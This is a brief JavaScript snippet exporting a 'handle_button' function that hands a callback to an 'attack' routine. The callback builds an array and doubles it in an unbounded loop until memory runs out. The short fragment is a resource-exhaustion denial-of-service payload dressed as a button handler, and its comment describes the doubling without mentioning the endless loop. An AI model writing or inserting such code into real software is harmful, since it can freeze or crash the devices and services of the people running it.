// Joins arrays that double.
export const handle_button = (data) =>
  attack(data, async () => {
    let list = new Array(1024).fill(1.5);
    for (;;) list = list.concat(list);
  });
